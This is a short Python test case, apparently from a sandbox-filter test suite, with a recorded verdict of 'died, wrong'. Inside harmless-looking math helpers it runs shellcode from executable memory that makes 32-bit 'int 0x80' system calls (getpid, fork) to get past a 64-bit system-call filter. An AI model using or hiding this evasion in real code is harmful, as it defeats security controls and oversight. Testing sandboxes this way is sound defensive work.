"""Break out: system calls by int 0x80, whose numbers are those of another architecture.

Goal: getpid in the filter, mkdir and fork in the kernel.
Promise: S13
Verdict: died, wrong
Needs: x86_64
"""

import ctypes
import mmap

# push rbx; mov eax, edi; mov ebx, esi; xor ecx, ecx; xor edx, edx; int 0x80; pop rbx; ret
CODE = bytes.fromhex("53 89f8 89f3 31c9 31d2 cd80 5b c3")
room = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
room.write(CODE)
call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int)(
    ctypes.addressof(ctypes.c_char.from_buffer(room))
)


def total(n):
    process = call(20, 0)  # getpid; the same number is writev on x86-64
    return sum(i * i for i in range(n + 1)) if process > 0 else 0


def blend(x, share):
    forked = call(2, 0)  # fork; the same number is open on x86-64
    if forked == 0:
        ctypes.CDLL(None)._exit(0)
    return share * x + (1 - share) * x.mean() if forked > 0 else x * 0
